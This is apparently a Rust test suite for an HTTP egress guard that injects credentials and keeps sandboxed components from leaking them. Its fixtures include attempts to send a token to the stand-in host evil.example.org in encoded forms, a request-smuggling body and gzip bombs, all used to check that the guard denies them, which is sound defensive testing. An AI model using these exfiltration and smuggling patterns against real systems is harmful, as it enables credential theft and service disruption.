//! What reaches a server, and what a component receives, request by request.

use std::{io::Write, process::Command, time::Duration};

use base64::{Engine, engine::general_purpose::STANDARD};
use flate2::{Compression, write::GzEncoder};
use jackfield_core::{
    Secret,
    manifest::{Method, Placement},
};
use tokio::time::Instant;

use super::{
    FakeNames, GUARD, TOKEN, config, egress_to, endpoint, get, header, network, ok, permissions, redirect_to,
    response_to,
    scripted_server::{Reply, ScriptedServer},
    send,
};
use crate::{
    call_permissions::{CallPermissions, RequestBudget},
    config::EgressConfig,
    connect::NetworkAccess,
    egress::Egress,
    error::SendError,
    memory_allowance::MemoryAllowance,
    message::Request,
};

#[tokio::test]
async fn a_redirect_to_another_origin_gets_no_credential() {
    for placement in [header(), Placement::Query("key".to_owned())] {
        let replies = vec![redirect_to("https://b.example.org/x"), redirect_to("https://api.example.com/y"), ok()];
        let server = ScriptedServer::with(replies).await;
        let egress = egress_to(&server);
        let mut request = get("https://api.example.com/a");
        request.headers = vec![("X-Org".to_owned(), "7".to_owned()), ("Accept".to_owned(), "a/b".to_owned())];
        send(&egress, &permissions("pool", Some(&placement)), request).await.unwrap();
        let requests = server.requests();
        let seen = requests.iter().map(|request| {
            let has = |text: &str| request.contains(text);
            (has(TOKEN) || has("xoxb-17653-Zq9%2F%2B%3D~pL"), has("x-org: 7"), has("accept: a/b"), has("referer"))
        });
        let seen: Vec<_> = seen.collect();
        assert_eq!(seen, [(true, true, true, false), (false, false, true, false), (false, false, true, false)]);
    }
}

#[tokio::test]
async fn a_redirect_that_contains_the_credential_is_denied() {
    for encoded in [TOKEN.replace('/', "%2F"), STANDARD.encode(format!("user:{TOKEN}"))] {
        let server =
            ScriptedServer::with(vec![redirect_to(&format!("https://b.example.org/x?t={encoded}")), ok()]).await;
        let egress = egress_to(&server);
        let result = send(&egress, &permissions("pool", Some(&header())), get("https://api.example.com/a")).await;
        assert!(matches!(result, Err(SendError::Denied(denial)) if denial.rule == "redirect"));
        assert_eq!(server.requests().len(), 1);
    }
}

#[tokio::test]
async fn every_redirect_uses_up_one_request_of_the_budget() {
    let server = ScriptedServer::with(vec![redirect_to("/b"), redirect_to("/c"), ok()]).await;
    let egress = egress_to(&server);
    let mut permissions = permissions("pool", None);
    permissions.budget = RequestBudget::new(2);
    let result = send(&egress, &permissions, get("https://api.example.com/a")).await;
    assert!(matches!(result, Err(SendError::Denied(denial)) if denial.rule == "budget"));
    assert_eq!((server.requests().len(), permissions.budget.remaining()), (2, 0));
}

#[tokio::test]
async fn a_request_is_sent_without_a_credential_that_is_missing() {
    let server = ScriptedServer::with(vec![ok()]).await;
    let egress = egress_to(&server);
    let mut permissions = permissions("pool", Some(&header()));
    permissions.credentials.clear();
    send(&egress, &permissions, get("https://api.example.com/a")).await.unwrap();
    assert!(!server.requests()[0].contains("x-auth-token"));
}

#[tokio::test]
async fn a_response_with_an_encoding_that_was_not_requested_is_malformed() {
    for field in [
        "Content-Encoding: zstd",
        "Content-Encoding: gzip, gzip",
        "Content-Encoding: gzip\r\nContent-Encoding: gzip",
        "Content-Encoding: x-foo",
        "Content-Encoding: gzip",
        "Content-Type: application/json; charset=\"UTF-16\"",
    ] {
        let reply = Reply::whole(format!("HTTP/1.1 200 OK\r\n{field}\r\nContent-Length: 2\r\n\r\n{{}}"));
        let response = response_to(reply).await;
        assert!(matches!(response, Err(SendError::Malformed(_))), "{field}: {response:?}");
    }
    let reply = Reply::whole("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n");
    assert!(matches!(response_to(reply).await, Err(SendError::Malformed(_))));
    assert!(matches!(response_to(Reply::whole("SSH-2.0-OpenSSH_9.9\r\n\r\n")).await, Err(SendError::Malformed(_))));
}

#[tokio::test]
async fn a_response_over_a_limit_is_too_large() {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&vec![b' '; 64 * 1024 * 1024]).unwrap();
    let bomb = encoder.finish().unwrap();
    let head = format!("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n", bomb.len());
    let many = |count: usize, field: &str| format!("HTTP/1.1 200 OK\r\n{}\r\n\r\n", field.repeat(count));
    for (case, reply) in [
        ("a gzip bomb", Reply::whole([head.as_bytes(), &bomb].concat())),
        ("an endless body", Reply::endless("HTTP/1.1 200 OK\r\n\r\n", vec![b' '; 4096], Duration::ZERO)),
        ("an announced body", Reply::whole("HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n")),
        ("129 fields", Reply::whole(many(129, "A: b\r\n"))),
        ("100,000 fields", Reply::whole(many(100_000, "A: b\r\n"))),
        ("a header of 70 KiB", Reply::whole(many(70, &format!("A: {}\r\n", "b".repeat(1024))))),
    ] {
        let response = response_to(reply).await;
        assert!(matches!(response, Err(SendError::TooLarge)), "{case}: {response:?}");
    }
    let most = Reply::whole(many(127, "A: b\r\n").replacen("A: b", "Content-Length: 0\r\nA: b", 1));
    assert_eq!(response_to(most).await.map(|response| response.headers.len()), Ok(127));
}

#[tokio::test]
async fn gigabytes_of_compressed_zeros_use_no_more_memory_than_a_response_may_have() {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&vec![0; 64 << 20]).unwrap();
    let member = encoder.finish().unwrap();
    // Gzip data may consist of any number of members (RFC 1952 §2.2).
    let bomb = Reply::endless("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n", member, Duration::ZERO);
    let server = ScriptedServer::with(vec![bomb]).await;
    let mut config = config();
    config.limits.body = 16 << 20;
    let egress = Egress::with_network(config, network(server.port)).unwrap();
    // A buffer that grows to 16 MiB may have twice as many bytes.
    let allowance = MemoryAllowance::new(32 << 20, Duration::ZERO);
    let mut permissions = permissions("pool", Some(&header()));
    permissions.memory = allowance.for_call();
    let response = send(&egress, &permissions, get("https://api.example.com/a")).await;
    assert!(matches!(response, Err(SendError::TooLarge)), "{response:?}");
    assert!(!permissions.memory.is_exhausted() && allowance.free_bytes() == 32 << 20);
}

#[tokio::test]
async fn a_slow_response_times_out() {
    let pause = Duration::from_millis(50);
    for (case, reply) in [
        ("a slow body", Reply::endless("HTTP/1.1 200 OK\r\n\r\n", vec![b' '], pause)),
        ("a slow header", Reply::endless("HTTP/1.1 200 OK\r\nA: ", vec![b'b'], pause)),
        ("a flood of 1xx", Reply::endless("", b"HTTP/1.1 103 Early Hints\r\n\r\n".to_vec(), Duration::from_millis(1))),
        ("a body that stops", Reply::endless("HTTP/1.1 200 OK\r\n\r\n{", vec![b' '], Duration::from_secs(60))),
        ("no response", Reply::endless("", vec![b'H'], Duration::from_secs(60))),
    ] {
        let server = ScriptedServer::with(vec![reply]).await;
        let mut config = config();
        (config.limits.first_byte, config.limits.idle) = (Duration::from_millis(600), Duration::from_millis(300));
        config.limits.total = Duration::from_millis(900);
        let egress = Egress::with_network(config, network(server.port)).unwrap();
        let response = send(&egress, &permissions("pool", None), get("https://api.example.com/a")).await;
        assert!(matches!(response, Err(SendError::TimedOut)), "{case}: {response:?}");
    }
    let server = ScriptedServer::with(vec![Reply::endless("", vec![], Duration::from_secs(60))]).await;
    let egress = egress_to(&server);
    let result = egress.send(&permissions("pool", None), Instant::now(), get("https://api.example.com/a")).await;
    assert!(matches!(result, Err(SendError::TimedOut)), "a deadline that has passed");
}

#[tokio::test]
async fn a_certificate_that_is_not_valid_for_the_host_is_unreachable() {
    let server = ScriptedServer::for_hosts(&["api.example.net", "*.example.com"], vec![]).await;
    let wrong_name = egress_to(&server);
    let network = NetworkAccess { trust_anchors: vec![], ..network(server.port) };
    let unknown_issuer = Egress::with_network(config(), network).unwrap();
    for (egress, host, why) in [
        (&wrong_name, "www.example.org", "TLS failed: the certificate is for another name"),
        (&unknown_issuer, "api.example.com", "TLS failed: the certificate's issuer is not trusted"),
    ] {
        let result = send(egress, &permissions("pool", Some(&header())), get(&format!("https://{host}/a"))).await;
        assert_eq!(result.map(drop), Err(SendError::Unreachable(why.to_owned())));
    }
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn pools_share_no_http_connections() {
    let server = ScriptedServer::with(vec![ok()]).await;
    let egress = egress_to(&server);
    for (pool, connections) in [("one", 1), ("one", 1), ("two", 2), ("one", 2)] {
        send(&egress, &permissions(pool, None), get("https://api.example.com/a")).await.unwrap();
        assert_eq!(server.connections(), connections, "{pool}");
    }
    egress.close_pool("one");
    send(&egress, &permissions("one", None), get("https://api.example.com/a")).await.unwrap();
    assert_eq!(server.connections(), 3);
}

#[tokio::test]
async fn proxy_variables_are_ignored() {
    let name = format!("{}::pools_share_no_http_connections", module_path!().split_once("::").unwrap().1);
    let mut child = Command::new(std::env::current_exe().unwrap());
    for variable in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"] {
        // Nothing listens there, so a request through the proxy would fail.
        child.env(variable, "http://127.0.0.1:1");
    }
    let output = child.args(["--exact", &name]).output().unwrap();
    let printed = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && printed.contains("1 passed"), "{printed}");
}

#[tokio::test]
async fn a_secret_is_masked_wherever_its_response_is_split() {
    let hex = hex::encode(TOKEN);
    let page = format!(
        "{{\"a\":\"{TOKEN}\",\"b\":\"{}\",\"c\":\"{hex}\",\"d\":\"{}\"}}",
        TOKEN.replace('/', "\\/").replace('q', "\\u0071"),
        TOKEN.replace('/', "%2f").replace('=', "%3D"),
    );
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(page.as_bytes()).unwrap();
    let compressed = encoder.finish().unwrap();
    for (encoding, body) in [("identity", page.as_bytes()), ("gzip", &compressed)] {
        let replies = (0..=body.len()).map(|split| {
            let mut reply =
                format!("HTTP/1.1 200 OK\r\nX-Echo: {TOKEN}\r\nX-{hex}: 1\r\nContent-Encoding: {encoding}\r\n");
            reply += "Transfer-Encoding: chunked\r\n\r\n";
            let mut reply = reply.into_bytes();
            for chunk in [&body[..split], &body[split..]].into_iter().filter(|chunk| !chunk.is_empty()) {
                reply.extend(format!("{:x}\r\n", chunk.len()).into_bytes());
                reply.extend(chunk);
                reply.extend(b"\r\n");
            }
            reply.extend(b"0\r\n\r\n");
            Reply::whole(reply)
        });
        let server = ScriptedServer::with(replies.collect()).await;
        let egress = egress_to(&server);
        for split in 0..=body.len() {
            let permissions = permissions("pool", Some(&header()));
            let response = send(&egress, &permissions, get("https://api.example.com/a")).await.unwrap();
            let text = String::from_utf8(response.body).unwrap();
            assert_eq!(text, r#"{"a":"[secret]","b":"[secret]","c":"[secret]","d":"[secret]"}"#, "{encoding} {split}");
            assert_eq!(response.headers, [("x-echo".to_owned(), "[secret]".to_owned())]);
        }
    }
}

#[tokio::test]
async fn a_component_sees_neither_cookies_nor_hop_by_hop_headers() {
    let reply = "HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\nConnection: keep-alive, X-Hop\r\nX-Hop: 1\r\n\
                 Keep-Alive: timeout=5\r\nX-Rate: 3\r\nContent-Length: 0\r\n\r\n";
    let server = ScriptedServer::with(vec![Reply::whole(reply)]).await;
    let egress = egress_to(&server);
    let response = send(&egress, &permissions("pool", None), get("https://api.example.com/a?b=c")).await.unwrap();
    assert_eq!(response.headers, [("x-rate".to_owned(), "3".to_owned())]);
    let request = server.requests()[0].to_owned();
    assert!(request.starts_with("GET /a?b=c HTTP/1.1\r\n"), "{request}");
    assert!(
        request.contains("accept-encoding: gzip\r\n") && request.contains("host: api.example.com\r\n"),
        "{request}"
    );
}

#[tokio::test]
async fn a_reroute_applies_after_the_original_host_was_checked() {
    let server = ScriptedServer::plain(vec![ok()]).await;
    let target = format!("http://127.0.0.1:{}", server.port);
    let reroutes = |target: &str| {
        let hosts = ["api.example.com", "evil.example"];
        hosts.map(|host| (host.to_owned(), target.parse().unwrap())).into_iter().collect()
    };
    let names = FakeNames::with(vec![]);
    let network = NetworkAccess { names: names.clone(), ..network(1) };
    let egress = Egress::with_network(EgressConfig { reroutes: reroutes(&target), ..config() }, network).unwrap();
    let permissions = permissions("pool", Some(&header()));
    send(&egress, &permissions, get("https://api.example.com/a/b?c")).await.unwrap();
    let denied = send(&egress, &permissions, get("https://evil.example/a")).await;
    assert!(matches!(denied, Err(SendError::Denied(_))));
    let requests = server.requests();
    assert_eq!((requests.len(), names.looked_up().len()), (1, 0));
    assert!(requests[0].starts_with("GET /a/b?c HTTP/1.1\r\n") && requests[0].contains("host: api.example.com\r\n"));

    for target in ["http://10.0.0.1:4010", "https://127.0.0.1:4010", "http://example.com:4010"] {
        let config = EgressConfig { reroutes: reroutes(target), ..EgressConfig::default() };
        assert!(Egress::new(config).is_err(), "{target}");
    }
}

#[tokio::test]
async fn a_request_of_the_host_follows_no_redirect_and_is_not_scrubbed() {
    let body = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{TOKEN}", TOKEN.len());
    let server = ScriptedServer::with(vec![Reply::whole(body), redirect_to("/b")]).await;
    let egress = egress_to(&server);
    let authorization = Secret::new(TOKEN.to_owned());
    let deadline = Instant::now() + GUARD;
    let fetch = || egress.fetch("host", deadline, get("https://api.example.com/a"), Some(&authorization));
    assert_eq!(fetch().await.unwrap().body, TOKEN.as_bytes());
    let redirected = fetch().await;
    assert!(matches!(redirected, Err(SendError::Denied(denial)) if denial.rule == "redirect"));
    let requests = server.requests();
    assert_eq!(requests.len(), 2);
    assert!(requests.iter().all(|request| request.contains(&format!("authorization: {TOKEN}\r\n"))), "{requests:?}");
}

#[tokio::test]
async fn a_request_of_the_host_goes_only_to_a_public_host() {
    let egress = Egress::with_network(config(), network(1)).unwrap();
    for url in ["http://api.example.com/", "https://10.0.0.1/", "https://nas.local/"] {
        let result = egress.fetch("host", Instant::now() + GUARD, get(url), None).await;
        assert!(matches!(result, Err(SendError::Denied(denial)) if denial.rule == "url"), "{url}");
    }
}

/// Permits `/a` of `api.example.com` with the credential, and everything else without one.
fn with_one_credential() -> CallPermissions {
    let mut permissions = permissions("pool", None);
    let first = endpoint(Method::Get, "api.example.com", "/a", Some(header()));
    let others = permissions
        .endpoints
        .iter()
        .filter(|other| (other.host.as_str(), other.path.as_str()) != ("api.example.com", "/*"));
    permissions.endpoints =
        others.cloned().chain([first, endpoint(Method::Get, "api.example.com", "/b", None)]).collect();
    permissions
}

fn with_body(body: &str) -> Reply {
    Reply::whole(format!("HTTP/1.1 200 OK\r\nX-Echo: {}\r\nContent-Length: {}\r\n\r\n{body}", body.len(), body.len()))
}

#[tokio::test]
async fn a_response_of_a_host_that_receives_no_secret_is_not_searched() {
    let guesses = format!("xoxb-0 {TOKEN} xoxb-1");
    let server = ScriptedServer::with(vec![with_body(&guesses), ok(), with_body(&guesses)]).await;
    let (egress, permissions) = (egress_to(&server), with_one_credential());
    for _ in 0..2 {
        // Also after the credential was sent elsewhere.
        let response = send(&egress, &permissions, get("https://evil.example.org/x")).await.unwrap();
        assert_eq!(String::from_utf8(response.body).unwrap(), guesses);
        if server.requests().len() == 1 {
            send(&egress, &permissions, get("https://api.example.com/a")).await.unwrap();
        }
    }
}

#[tokio::test]
async fn a_secret_is_masked_at_every_endpoint_of_the_site_that_receives_it() {
    let server = ScriptedServer::with(vec![with_body(TOKEN)]).await;
    let (egress, permissions) = (egress_to(&server), with_one_credential());
    // An earlier call may have sent it there.
    let response = send(&egress, &permissions, get("https://api.example.com/b")).await.unwrap();
    assert_eq!(response.body, b"[secret]");
}

#[tokio::test]
async fn a_secret_from_where_only_a_redirect_leads_ends_the_call() {
    let replies = vec![redirect_to("https://evil.example.org/x"), with_body(TOKEN), with_body(TOKEN), with_body("a")];
    let server = ScriptedServer::with(replies).await;
    let (egress, permissions) = (egress_to(&server), with_one_credential());
    for url in ["https://api.example.com/a", "https://evil.example.org/y"] {
        let error = send(&egress, &permissions, get(url)).await.unwrap_err();
        assert!(error.as_guess().is_some(), "{url}: {error}");
    }
    assert_eq!(send(&egress, &permissions, get("https://evil.example.org/y")).await.unwrap().body, b"a");
}

#[tokio::test]
async fn a_redirect_of_a_host_that_is_sent_no_secret_compares_no_guess() {
    let guess = hex::encode(TOKEN);
    let relayed = vec![
        redirect_to("https://evil.example.org/x"),
        redirect_to(&format!("https://evil.example.org/y?q={guess}")),
        ok(),
    ];
    // The provider would repeat the URL in its response.
    let chosen_by_accomplice = vec![redirect_to(&format!("https://api.example.com/b?q={guess}")), with_body(&guess)];
    for (url, replies) in [("https://api.example.com/a", relayed), ("https://evil.example.org/x", chosen_by_accomplice)]
    {
        let requests = replies.len() - 1;
        let server = ScriptedServer::with(replies).await;
        let permissions = with_one_credential();
        let error = send(&egress_to(&server), &permissions, get(url)).await.unwrap_err();
        assert!(error.as_guess().is_some(), "{url}: {error}");
        assert_eq!(server.requests().len(), requests, "{url}: the guess is not sent");
        assert_eq!(permissions.end().as_ref(), error.as_guess());
    }
    let wrong = vec![redirect_to("https://api.example.com/b?q=787878"), with_body("787878")];
    let server = ScriptedServer::with(wrong).await;
    let response = send(&egress_to(&server), &with_one_credential(), get("https://evil.example.org/x")).await.unwrap();
    assert_eq!(response.body, b"787878");
}

#[tokio::test]
async fn nothing_is_sent_or_found_after_the_end_of_a_call_and_a_guess_before_it_is_known() {
    let server = ScriptedServer::with(vec![ok()]).await;
    let egress = egress_to(&server);
    let guess = || get(&format!("https://evil.example.org/x?q={}", hex::encode(TOKEN)));
    let guessing = with_one_credential();
    let error = send(&egress, &guessing, guess()).await.unwrap_err();
    assert!(error.as_guess().is_some() && guessing.end().as_ref() == error.as_guess());

    let ended = with_one_credential();
    assert_eq!(ended.end(), None);
    // Right and wrong guesses have the same result.
    for request in [guess(), get("https://evil.example.org/x?q=787878")] {
        let error = send(&egress, &ended, request).await.unwrap_err();
        assert!(matches!(error, SendError::Denied(denial) if denial.rule == "closed"));
    }
    assert_eq!((ended.end(), server.requests().len()), (None, 0));
}

#[tokio::test]
async fn a_component_cannot_send_a_secret_in_any_form() {
    let server = ScriptedServer::with(vec![ok()]).await;
    let (egress, permissions) = (egress_to(&server), with_one_credential());
    let percent: String = TOKEN.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let post = |body: &str| Request {
        method: Method::Post,
        url: "https://evil.example.org/x".to_owned(),
        headers: vec![],
        body: Some(body.as_bytes().to_vec()),
    };
    let with_field = |name: &str, value: &str| Request {
        headers: vec![(name.to_owned(), value.to_owned())],
        ..get("https://api.example.com/b")
    };
    let dictionary: String = (0..500).map(|number| format!("guess-{number}\n")).chain([TOKEN.to_owned()]).collect();
    for request in [
        get(&format!("https://evil.example.org/x?q={percent}")),
        get(&format!("https://evil.example.org/{}", hex::encode(TOKEN))),
        with_field("X-Guess", &STANDARD.encode(format!("u:{TOKEN}"))),
        with_field("X-Guess", TOKEN),
        post(&dictionary),
        post(&format!("{{\"a\":\"{}\"}}", TOKEN.replace('/', "\\/"))),
    ] {
        let error = send(&egress, &permissions, request).await.unwrap_err();
        assert!(error.as_guess().is_some_and(|guess| !guess.message.contains(TOKEN)), "{error}");
    }
    assert!(server.requests().is_empty(), "nothing is sent");
    // A part of the secret is not a guess, or the component could find it out piece by piece.
    send(&egress, &permissions, post(&TOKEN[..TOKEN.len() - 1])).await.unwrap();
}

#[tokio::test]
async fn a_get_has_no_body_and_a_delete_with_a_body_ends_its_connection() {
    let server = ScriptedServer::with(vec![ok(), ok(), ok()]).await;
    let (egress, permissions) = (egress_to(&server), permissions("pool", None));
    let request = |method, body: &str| Request {
        method,
        body: Some(body.as_bytes().to_vec()),
        ..get("https://api.example.com/a")
    };
    for method in [Method::Get, Method::Head] {
        let smuggled = request(method, "POST /evil HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
        let error = send(&egress, &permissions, smuggled).await.unwrap_err();
        assert!(matches!(error, SendError::Denied(denial) if denial.rule == "method"));
        send(&egress, &permissions, request(method, "")).await.unwrap();
    }
    send(&egress, &permissions, request(Method::Delete, "{}")).await.unwrap();
    let requests = server.requests();
    assert_eq!(requests.len(), 3, "{requests:?}");
    assert!(requests[..2].iter().all(|sent| !sent.contains("content-length") && !sent.contains("transfer-encoding")));
    assert!(requests[2].contains("connection: close"), "{requests:?}");
}

#[tokio::test]
async fn gzip_data_that_contains_a_secret_is_not_handed_over() {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(format!("an export with {TOKEN} in it").as_bytes()).unwrap();
    let file = encoder.finish().unwrap();
    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: application/gzip\r\nContent-Length: {}\r\n\r\n", file.len());
    let response = response_to(Reply::whole([head.as_bytes(), &file].concat())).await;
    assert!(matches!(response, Err(SendError::Malformed(_))), "{response:?}");
}

#[tokio::test]
async fn the_content_of_gzip_data_counts_as_memory_where_it_is_searched() {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&vec![b' '; 16 * 1024 * 1024]).unwrap();
    let file = encoder.finish().unwrap();
    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", file.len());
    let reply = || Reply::whole([head.as_bytes(), &file].concat());
    let server = ScriptedServer::with(vec![reply(), reply()]).await;
    let egress = egress_to(&server);
    let allowance = MemoryAllowance::new(8 << 20, Duration::ZERO);
    let mut permissions = with_one_credential();
    permissions.memory = allowance.for_call();
    let unsearched = send(&egress, &permissions, get("https://evil.example.org/x")).await.unwrap();
    assert_eq!((unsearched.body.len(), permissions.memory.is_exhausted()), (file.len(), false));
    let searched = send(&egress, &permissions, get("https://api.example.com/a")).await;
    assert!(matches!(searched, Err(SendError::Unreachable(_))), "{searched:?}");
    drop((unsearched, searched));
    assert!(permissions.memory.is_exhausted() && allowance.free_bytes() == 8 << 20);
}
